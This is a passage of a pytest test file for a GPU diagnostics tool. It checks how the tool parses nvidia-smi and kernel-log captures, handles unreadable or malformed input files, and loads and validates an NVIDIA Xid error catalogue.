    assert [r.source for r in report.read][:2] == ["host1.doctor.txt:nvidia-smi-q-x", "host1.doctor.txt:nvlink-s"]
    assert any(r.kind == "future-key" and not r.analysed for r in report.read)


def test_structured_section_with_an_error_message_is_read_as_error_output():
    report = diagnose_texts({"nvidia-smi-q-x": ERR, "nvidia-smi-rc": "9"})
    assert report.ids() == {"driver-not-loaded"}
    assert report.read[0].kind == "nvidia-smi-stderr"


@pytest.mark.parametrize(
    ("key", "content", "why"),
    [
        ("nvidia-smi-q-x", "<nvidia_smi_log><gpu id='0000:01:00.0'><product_name>A", "truncated XML"),
        ("nvidia-smi-q", "Product Name : x\n", "NVSMI LOG"),
        ("nvidia-smi", "| nothing like a table |\n", "header line"),
        ("nvlink-s", 'Invalid combination of input arguments. Please run "nvidia-smi -h" for help.\n', "UUID"),
        ("nvidia-smi-rc", "n/a", "not an exit code"),
    ],
)
def test_an_unreadable_section_is_a_warning_not_a_failure(key, content, why):
    report = diagnose_texts({key: content, "uname-r": "6.8.0-45-generic\n"})
    f = only(report, "section-unreadable")
    assert f.severity == "warning"
    assert why in f.title
    assert key in f.title
    assert report.exit_code == 0
    assert [(r.kind, r.analysed) for r in report.read] == [(key, False), ("uname-r", True)]


def test_an_unreadable_file_is_bad_input(tmp_path):
    xml = text("q-x__v100-sxm3__dbe-retired-pages-pending.xml")
    path = tmp_path / "cut.xml"
    path.write_text(xml[: len(xml) // 2])
    with pytest.raises(InputError) as info:
        diagnose_files([path])
    assert str(path) in info.value.message
    assert "truncated XML" in info.value.message


def test_collector_context_keys_are_listed():
    report = diagnose_texts({"kernel-log-source": "journalctl -k -b\n", "kernel-log": text("journal-k__healthy.log")})
    assert report.findings == ()
    assert report.read[0].detail == "journalctl -k -b: not analysed"


def test_empty_and_unknown_sections_are_listed_not_analysed():
    report = diagnose_texts({"kernel-log": "", "not-a-key": "x"})
    assert report.findings == ()
    assert report.exit_code == 0
    assert [(r.kind, r.analysed) for r in report.read] == [("kernel-log", False), ("not-a-key", False)]


@pytest.mark.parametrize(
    ("content", "what"),
    [
        ("", "an empty file"),
        ("\x00\x01\x02", "binary data"),
        ('{"a": 1}', "JSON"),
        ("<html><body>hi</body></html>", "HTML"),
        ("just some words\n", "text with no NVIDIA tool output"),
    ],
)
def test_bad_files_are_named(tmp_path, content, what):
    path = tmp_path / "capture.txt"
    path.write_text(content)
    with pytest.raises(InputError) as info:
        diagnose_files([path])
    assert str(path) in info.value.message
    assert what in info.value.message


def test_unreadable_file(tmp_path):
    with pytest.raises(InputError, match="cannot read"):
        diagnose_files([tmp_path / "missing.xml"])
    with pytest.raises(InputError, match="cannot read"):
        diagnose_files([tmp_path])
    with pytest.raises(InputError, match="no files"):
        diagnose_files([])


def test_utf16_capture_from_powershell(tmp_path):
    path = tmp_path / "smi.txt"
    path.write_bytes(text("table__rtx-4090__fan-err.txt").replace("\n", "\r\n").encode("utf-16"))
    assert diagnose_files([path]).ids() == {"fan-error"}


# -- the Xid catalogue ----------------------------------------------------------------------------
def test_catalogue_covers_every_code_with_a_known_bucket():
    catalog = load_xid_catalog(COMPAT)
    assert sorted(catalog.entries) == list(range(1, 173))
    for code in (13, 31, 43, 45, 48, 61, 62, 63, 64, 74, 79, 92, 94, 95, 119, 120):
        assert catalog.get(code).mnemonic
    assert (catalog.severity(79), catalog.severity(13), catalog.severity(63), catalog.severity(172)) == (
        "error",
        "warning",
        "info",
        "warning",
    )
    assert catalog.retrieved == "2025-10-29"
    assert catalog.url.startswith("https://docs.nvidia.com/")


def broken_compat(tmp_path: Path, old: str, new: str) -> Path:
    compat = tmp_path / "compat"
    (compat / "schema").mkdir(parents=True)
    shutil.copy(COMPAT / "schema" / "xid.schema.json", compat / "schema")
    data = (COMPAT / "xid.yaml").read_text()
    assert old in data
    (compat / "xid.yaml").write_text(data.replace(old, new, 1))
    return compat


@pytest.mark.parametrize(
    ("old", "new", "where"),
    [
        ("immediate_action: RESET_GPU", "immediate_action: REBOOT_EVERYTHING", ".immediate_action"),
        ("severity: warning", "severity: panic", "buckets"),
        ("{code: 13,", "{code: 13, colour: red,", "codes[12]"),
        ("  UNSPECIFIED:\n", "  UNUSED_BUCKET:\n", "buckets"),
    ],
)
def test_broken_catalogue_is_compat_data_error(tmp_path, old, new, where):
    with pytest.raises(CompatDataError) as info:
        load_xid_catalog(broken_compat(tmp_path, old, new))
    assert info.value.file == "xid.yaml"
    assert where in info.value.key_path
    assert info.value.exit_code == 3


def test_refresh_renders_the_committed_file():
    rows = parse_catalog(
        "| Xid | a |\n|---:|---|\n"
        "| 13 | A / <br> B | Graphics Engine Exception | RESTART_APP | WORKFLOW_XID_13 |\n"
        "| 45 | C | Cleanup | WORKFLOW_XID_45 | Solo: RESTART_FM <br> Not Solo: IGNORE (follow "
        "other Xid) |\n"
        "| 162 | D | Power smoothing |  |  |\n"
    )
    assert rows[0]["mnemonic"] == "A / B"
    assert rows[1]["investigatory_action"].startswith("Solo: RESTART_FM; Not Solo")
    assert rows[2]["immediate_action"] is None
    existing = yaml.safe_load((COMPAT / "xid.yaml").read_text())
    out = yaml.safe_load(render(existing, rows))
    assert out["buckets"] == existing["buckets"]
    assert [r["code"] for r in out["codes"]] == [13, 45, 162]
    with pytest.raises(RefreshError, match="NEW_BUCKET"):
        render(existing, [{**rows[0], "immediate_action": "NEW_BUCKET"}])
